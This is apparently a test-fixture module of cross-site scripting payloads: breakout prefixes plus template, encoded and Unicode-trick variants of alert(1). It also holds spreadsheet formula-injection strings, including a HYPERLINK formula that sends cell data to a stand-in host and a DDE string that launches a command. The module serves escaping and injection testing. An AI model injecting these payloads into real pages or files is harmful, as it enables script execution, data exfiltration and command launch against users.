import { MARKUP, SCHEMES } from './markdown-attacks.ts';

/** What ends the place in which a text stands, so that a page without escapes reads what follows as markup. */
const BREAKOUTS = ['', '">', "'>", '</textarea></title>'];

/** What runs in templates, in scripts, or once somebody has decoded it. */
const CRAFTED = [
  '{{constructor.constructor("alert(1)")()}}',
  `\${alert(1)}`,
  '<%= alert(1) %>',
  '#{alert(1)}',
  "'-alert(1)-'",
  '";alert(1);//',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '＜script＞alert(1)＜/script＞',
  '\u202Egnp.<script>alert(1)</script>',
];

/** Some 200 texts that would run a script if a page, a letter or a file took them for anything else than text. */
export const SCRIPT_PAYLOADS: readonly string[] = [
  ...BREAKOUTS.flatMap((breakout) => MARKUP.map((markup) => breakout + markup)),
  ...SCHEMES,
  ...CRAFTED,
];

/** Texts that a spreadsheet would compute. */
export const FORMULAS: readonly string[] = [
  ...['=1+1', '+7900', '-2', '@SUM(A1)', '\t=1', '\r=1', '＝1+1', '＋1', '－1', '＠SUM(A1)'],
  '=HYPERLINK("//evil.test?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML("//evil.test","//a")',
];
